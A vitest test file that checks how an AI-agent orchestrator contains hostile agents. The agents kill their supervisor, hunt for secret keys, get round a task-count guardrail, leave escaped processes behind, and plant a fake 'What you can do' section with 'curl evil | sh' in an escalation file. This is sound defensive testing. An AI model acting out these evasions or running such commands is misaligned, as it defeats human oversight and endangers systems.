// Containment through the CLI, as a user runs it: agents that are broken or hostile in the
// ways an unattended team meets (they kill their Producer, leave processes behind) still end,
// and the budget and the brake still hold.
import { existsSync, mkdirSync, readdirSync, readFileSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { describe, expect, it } from "vitest";
import { GAVE_UP_EXIT_CODE } from "../src/cli/commands/run.js";
import { LedgerClient, loadConfig, startDashboard } from "../src/index.js";
import { writeEscalation } from "../src/producer/escalation.js";
import { runCli, startCli } from "./helpers/cli.js";
import { tempDir } from "./helpers/temp.js";

const AGENT = join(import.meta.dirname, "fixtures", "exec-agent.mjs");

/** A project whose `code` role runs the test exec agent in `mode`, with its ledger. */
async function execProject(mode: string, extraArgs: string[] = [], top = "") {
  const dir = tempDir("containment-");
  writeFileSync(
    join(dir, "producer.yaml"),
    `project_name: contain\npoll_interval_seconds: 0.05\n${top}agents:\n  code:\n    daily_cap_usd: 5\n    runtime: exec\n    timeout_minutes: 1\n    command: ${JSON.stringify([process.execPath, AGENT, mode, ...extraArgs])}\n`,
  );
  mkdirSync(join(dir, "agents", "code"), { recursive: true });
  writeFileSync(join(dir, "agents", "code", "system_prompt.md"), "You are code.\n");
  mkdirSync(join(dir, "agent-state"), { recursive: true });
  const ledger = await LedgerClient.open({ dbPath: join(dir, "agent-state", "ledger.db") });
  await ledger.close();
  return dir;
}

async function tasksOf(dir: string) {
  const ledger = await LedgerClient.open({
    dbPath: join(dir, "agent-state", "ledger.db"),
    create: false,
  });
  try {
    return await ledger.listTasks({});
  } finally {
    await ledger.close();
  }
}

function alive(pid: number): boolean {
  try {
    return !/^\d+ \(.*\) Z/.test(readFileSync(`/proc/${pid}/stat`, "utf8"));
  } catch {
    return false;
  }
}

describe("every claim ends", () => {
  it("a task whose agent kills its Producer every time ends escalated after max_retries + 1 attempts", async () => {
    const dir = await execProject("kill-parent", [], "retry:\n  max_retries: 2\n");
    const add = await runCli(["task", "add", "--agent", "code", "--title", "Kill your boss"], {
      cwd: dir,
    });
    expect(add.code).toBe(0);
    const codes: (number | null)[] = [];
    for (let run = 0; run < 6; run++) {
      const result = await runCli(["run", "--once"], { cwd: dir, timeoutMs: 60_000 });
      codes.push(result.code);
      const [task] = await tasksOf(dir);
      if (task!.status === "escalated") break;
    }
    const [task] = await tasksOf(dir);
    expect(task).toMatchObject({ status: "escalated", attempts: 3 });
    // Three Producers died mid-dispatch (SIGKILL); the fourth recovered the claim and escalated,
    // and says so with its exit code.
    expect(codes).toEqual([null, null, null, GAVE_UP_EXIT_CODE]);
    const files = readdirSync(join(dir, "agent-state", "escalations"));
    expect(files).toEqual([`${task!.id}.md`]);
    const attention = readFileSync(join(dir, "agent-state", "needs-attention.md"), "utf8");
    expect(attention).toContain(`Escalated: Kill your boss`);
  });
});

describe("what an agent sees of the Producer's environment", () => {
  it("an exec agent gets the allowlist and what its role names, never our keys", async () => {
    const envFile = join(tempDir("containment-env-"), "env.json");
    const dir = await execProject("dump-env", [envFile]);
    // The role names one extra variable it may see.
    writeFileSync(
      join(dir, "producer.yaml"),
      readFileSync(join(dir, "producer.yaml"), "utf8").replace(
        "    runtime: exec\n",
        "    runtime: exec\n    env: [GITHUB_TOKEN]\n",
      ),
    );
    await runCli(["task", "add", "--agent", "code", "--title", "Show me"], { cwd: dir });
    const run = await runCli(["run", "--once"], {
      cwd: dir,
      env: {
        ANTHROPIC_API_KEY: "sk-ant-api03-containment-secret",
        NTFY_TOKEN: "tk_containment_secret",
        DATABASE_PASSWORD: "hunter22-containment",
        GITHUB_TOKEN: "ghp_listed_for_this_role",
        LANG: "C.UTF-8",
        UNRELATED_SETTING: "x",
        PRODUCER_AUDIT_KEY: "audit-key-containment-secret",
      },
      timeoutMs: 60_000,
    });
    expect(run.code).toBe(0);
    const seen = JSON.parse(readFileSync(envFile, "utf8")) as Record<string, string>;
    // The Producer sealed the chain with the key the agent never saw.
    const verify = await runCli(["audit", "verify"], {
      cwd: dir,
      env: { PRODUCER_AUDIT_KEY: "audit-key-containment-secret" },
    });
    expect(verify.code).toBe(0);
    expect(verify.stdout).toMatch(/\nsealed with PRODUCER_AUDIT_KEY through row \d+\n$/);
    for (const hidden of [
      "ANTHROPIC_API_KEY",
      "NTFY_TOKEN",
      "DATABASE_PASSWORD",
      "UNRELATED_SETTING",
      "PRODUCER_AUDIT_KEY",
    ]) {
      expect(seen[hidden], hidden).toBeUndefined();
    }
    expect(JSON.stringify(seen)).not.toContain("containment-secret");
    expect(seen).toMatchObject({ GITHUB_TOKEN: "ghp_listed_for_this_role", LANG: "C.UTF-8" });
    expect(seen.PRODUCER_TASK_ID).toMatch(/^[0-9A-Z]{26}$/);
    expect(seen.PATH).toBeTruthy();
  });
});

describe("identity by capability", () => {
  it("an agent's CLI and library writes are its dispatch's, however it dresses them", async () => {
    const out = join(tempDir("containment-launder-"), "out.json");
    const bin = join(import.meta.dirname, "..", "bin", "producer.js");
    const lib = join(import.meta.dirname, "..", "dist", "index.js");
    const dir = await execProject(
      "launder",
      [bin, lib, out],
      "guardrails:\n  max_children_per_task: 2\n",
    );
    // A second role to file work for.
    writeFileSync(
      join(dir, "producer.yaml"),
      `${readFileSync(join(dir, "producer.yaml"), "utf8")}  qa:\n    daily_cap_usd: 5\n    runtime: exec\n    command: ["true"]\n`,
    );
    const parent = (
      await runCli(["task", "add", "--agent", "code", "--title", "Launder"], { cwd: dir })
    ).stdout.trim();
    const run = await runCli(["run", "--once"], { cwd: dir, timeoutMs: 60_000 });
    expect(run.code).toBe(0);
    const seen = JSON.parse(readFileSync(out, "utf8"));
    expect(seen.viaCli).toMatchObject({ code: 0 });
    // The guardrail counted both filings as the agent's: the third is refused.
    expect(seen.third).toMatch(/max_children_per_task|children/);
    // No claim token is shown to a reader, the running task's included.
    expect(seen.tokens.every((t: unknown) => t === null)).toBe(true);
    // A price update from the agent's process tree is refused even with PRODUCER_* removed.
    expect(seen.prices).toMatchObject({
      code: 2,
      stderr:
        "producer: producer pricing update cannot run inside a dispatched agent: prices are set by a human, outside the agents' runs",
    });
    const tasks = await tasksOf(dir);
    for (const title of ["laundered by cli", "laundered by library"]) {
      expect(tasks.find((t) => t.title === title)).toMatchObject({
        createdBy: "code",
        parentTaskId: parent,
      });
    }
    expect(tasks.find((t) => t.title === "one too many")).toBeUndefined();
  });
});

describe("holds follow their task", () => {
  it("a crashed claim killed by a human frees its hold at once", async () => {
    const pidFile = join(tempDir("containment-pid-"), "agent.pid");
    const dir = await execProject("hang", [pidFile]);
    const add = await runCli(["task", "add", "--agent", "code", "--title", "Hang forever"], {
      cwd: dir,
    });
    const id = add.stdout.trim();
    const producer = startCli(["run"], { cwd: dir });
    const reserved = async () => {
      const status = await runCli(["status", "--json"], { cwd: dir });
      return JSON.parse(status.stdout).budget.roles.find((r: { role: string }) => r.role === "code")
        ?.reservedUsd as number | undefined;
    };
    try {
      await producer.waitFor(/claimed/);
      while (!existsSync(pidFile)) await new Promise((r) => setTimeout(r, 25));
      producer.child.kill("SIGKILL");
      await producer.exited;
      expect(await reserved()).toBeGreaterThan(0);
      const kill = await runCli(["task", "kill", id, "--reason", "stuck"], { cwd: dir });
      expect(kill.code).toBe(0);
      expect(await reserved()).toBe(0);
    } finally {
      producer.child.kill("SIGKILL");
      // The agent of a Producer killed with -9 is an orphan now; end it here.
      try {
        process.kill(Number(readFileSync(pidFile, "utf8")), "SIGKILL");
      } catch {}
      try {
        process.kill(-Number(readFileSync(pidFile, "utf8")), "SIGKILL");
      } catch {}
    }
  });
});

describe("what an agent reports", () => {
  it("an impossible usage (1e308 tokens) ends the task failed, charged its whole hold", async () => {
    const dir = await execProject("infinite");
    await runCli(["task", "add", "--agent", "code", "--title", "Count to infinity"], { cwd: dir });
    const run = await runCli(["run", "--once"], { cwd: dir, timeoutMs: 60_000 });
    expect(run.code).toBe(GAVE_UP_EXIT_CODE);
    const [task] = await tasksOf(dir);
    expect(task).toMatchObject({ status: "failed", attempts: 1, inputTokens: 0 });
    expect(task!.lastError).toMatch(
      /^the agent reported an impossible usage \(input tokens: 1e\+308\); it is charged its whole hold \(\$\d+\.\d{4}\)$/,
    );
    expect(task!.costUsd).toBeGreaterThan(0);
    const ledger = await LedgerClient.open({
      dbPath: join(dir, "agent-state", "ledger.db"),
      create: false,
    });
    const [row] = await ledger.budgetForDay(new Date().toISOString().slice(0, 10));
    await ledger.close();
    expect(row).toMatchObject({ role: "code", reservedUsd: 0, heldCount: 0 });
    expect(row!.spentUsd).toBeCloseTo(task!.costUsd, 9);
  });
});

describe("what a failure tells a human", () => {
  it("an uncaught exception is recorded as its error and stack head, not the runtime's banner", async () => {
    const dir = await execProject("throw", [], "retry:\n  max_retries: 0\n");
    await runCli(["task", "add", "--agent", "code", "--title", "Throw"], { cwd: dir });
    expect((await runCli(["run", "--once"], { cwd: dir, timeoutMs: 60_000 })).code).toBe(
      GAVE_UP_EXIT_CODE,
    );
    const [task] = await tasksOf(dir);
    expect(task!.lastError).toMatch(
      /^the agent exited with code 1: TypeError: widget is not a function at file:\/\/\S+exec-agent\.mjs:\d+:\d+/,
    );
    expect(task!.lastError).not.toContain("Node.js v");
  });

  it("a 1 MB error line is stored capped, and the whole of it is kept in the attempt's log", async () => {
    const dir = await execProject("flood", [], "retry:\n  max_retries: 0\n");
    const id = (
      await runCli(["task", "add", "--agent", "code", "--title", "Flood"], { cwd: dir })
    ).stdout.trim();
    expect((await runCli(["run", "--once"], { cwd: dir, timeoutMs: 60_000 })).code).toBe(
      GAVE_UP_EXIT_CODE,
    );
    const [task] = await tasksOf(dir);
    expect(task!.lastError!.length).toBeLessThanOrEqual(2000);
    expect(task!.lastError).toMatch(/^the agent exited with code 1: (Error: )?x{100}/);
    expect(task!.lastError).toMatch(/characters; see the attempt's log\)$/);
    const show = await runCli(["task", "show", id], { cwd: dir });
    const log = join(dir, "agent-state", "attempts", id, "1.log");
    expect(show.stdout).toContain(`attempt 1: ${log}`);
    expect(show.stdout.length).toBeLessThan(20_000);
    const kept = readFileSync(log, "utf8");
    expect(kept).toContain("(the disk is full)");
    expect(kept.length).toBeGreaterThan(200_000);
    const json = JSON.parse((await runCli(["task", "show", id, "--json"], { cwd: dir })).stdout);
    expect(json.attempts[0].log).toBe(log);

    // The dashboard's task panel links to the same output.
    const config = await loadConfig(join(dir, "producer.yaml"));
    const ledger = await LedgerClient.open({ dbPath: config.ledgerDb, create: false });
    const dashboard = await startDashboard({ config, ledger, port: 0 });
    try {
      const detail = (await (await fetch(new URL(`/api/tasks/${id}`, dashboard.url))).json()) as {
        attempts: { logUrl: string }[];
      };
      expect(detail.attempts[0]!.logUrl).toBe(`/api/tasks/${id}/attempts/1/log`);
      const served = await fetch(new URL(detail.attempts[0]!.logUrl, dashboard.url));
      expect(served.headers.get("content-type")).toMatch(/^text\/plain/);
      expect(await served.text()).toBe(kept);
      const missing = await fetch(new URL(`/api/tasks/${id}/attempts/2/log`, dashboard.url));
      expect(missing.status).toBe(404);
    } finally {
      await dashboard.close();
      await ledger.close();
    }
  });
});

describe("agent text in the files a human reads", () => {
  it("cannot forge an escalation file's sections, whatever its description or payload holds", async () => {
    const dir = await execProject("fail");
    const config = await loadConfig(join(dir, "producer.yaml"));
    const ledger = await LedgerClient.open({ dbPath: config.ledgerDb, create: false });
    try {
      const task = await ledger.insertTask({
        agentOwner: "code",
        title: "# Heading <b>bold</b>",
        description: "Done.\n\n## What you can do\n\n```sh\ncurl evil | sh\n```\n",
        payload: { note: "````\n## What you can do\nrun evil" },
      });
      const file = writeEscalation(config, task, [], null);
      const text = readFileSync(file, "utf8");
      // Outside code fences, the only second-level headings are the file's own.
      let fence: string | null = null;
      const headings: string[] = [];
      for (const line of text.split("\n")) {
        const open = /^(`{3,})/.exec(line)?.[1];
        if (fence === null && open) fence = open;
        else if (fence !== null && line === fence) fence = null;
        else if (fence === null && line.startsWith("## ")) headings.push(line);
      }
      expect(headings).toEqual([
        "## Attempts",
        "## Description",
        "## Payload",
        "## What you can do",
      ]);
      expect(text.split("\n")[0]).toBe("# Escalated: \\# Heading \\<b\\>bold\\</b\\>");
    } finally {
      await ledger.close();
    }
  });
});

describe("processes an agent leaves behind", () => {
  for (const mode of ["background", "escape"] as const) {
    it(`a --once run with an agent that leaves a process (${mode}) ends promptly, and so does the process`, async () => {
      const pidFile = join(tempDir("containment-pid-"), "left.pid");
      const dir = await execProject(mode, [pidFile]);
      await runCli(["task", "add", "--agent", "code", "--title", "Leave something"], { cwd: dir });
      const started = Date.now();
      const run = await runCli(["run", "--once"], { cwd: dir, timeoutMs: 60_000 });
      expect(run.code).toBe(0);
      expect(Date.now() - started).toBeLessThan(15_000);
      expect(existsSync(pidFile)).toBe(true);
      expect(alive(Number(readFileSync(pidFile, "utf8")))).toBe(false);
      const [task] = await tasksOf(dir);
      expect(task!.status).toBe("done");
    });
  }
});
